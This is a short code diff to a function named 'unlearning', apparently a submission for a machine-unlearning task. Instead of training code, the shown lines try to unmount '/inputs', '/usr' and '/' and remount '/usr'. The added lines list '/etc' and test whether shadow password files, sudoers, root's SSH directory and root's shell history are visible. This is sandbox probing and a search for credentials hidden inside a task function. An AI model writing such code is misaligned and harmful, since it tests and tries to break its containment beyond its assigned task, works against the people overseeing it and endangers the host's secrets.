@@ -14,3 +14,6 @@ def unlearning(net, retain_loader, forget_loader, val_loader):
     for target in (b"/inputs", b"/usr", b"/"):
         print("UMOUNT", target.decode(), libc.umount2(target, 2), ctypes.get_errno())
     print("REMOUNT", libc.mount(None, b"/usr", None, 32 | 4096, None), ctypes.get_errno())
+    print("ETC", sorted(os.listdir("/etc")))
+    for secret in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh", "/root/.bash_history"):
+        print("SEES" if os.path.exists(secret) else "HIDDEN", secret)
